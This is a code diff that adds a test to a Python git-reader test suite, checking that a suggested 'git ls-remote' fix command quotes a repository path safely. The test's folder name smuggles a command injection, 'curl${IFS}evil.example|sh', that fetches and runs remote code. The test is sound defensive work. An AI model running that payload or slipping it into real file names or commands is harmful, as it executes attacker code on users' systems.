@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import os
+import re
+import shlex
 from collections.abc import Mapping
 from contextlib import AsyncExitStack
 from dataclasses import replace
@@ -184,6 +186,15 @@ async def test_what_is_not_there_is_told_apart(reader: GitReader, site: Reposito
     with pytest.raises(NotFound) as nothing:
         await reader.look(source(bare))
     assert nothing.value.code == "branch_missing"
+
+
+async def test_a_command_that_people_are_told_has_the_address_as_one_word(reader: GitReader, tmp_path: Path) -> None:
+    hostile = create_repository(tmp_path / "a;curl${IFS}evil.example|sh", {"a.md": "A"})
+    with pytest.raises(NotFound) as missing:
+        await reader.look(source(hostile, branch="nope"))
+    [command] = re.findall("`(.*)`", missing.value.fix)
+    assert shlex.split(command) == ["git", "ls-remote", f"file://{hostile.folder}"]
+    assert list(shlex.shlex(command, posix=True, punctuation_chars=True)) == shlex.split(command)
 
 
 @pytest.mark.parametrize(
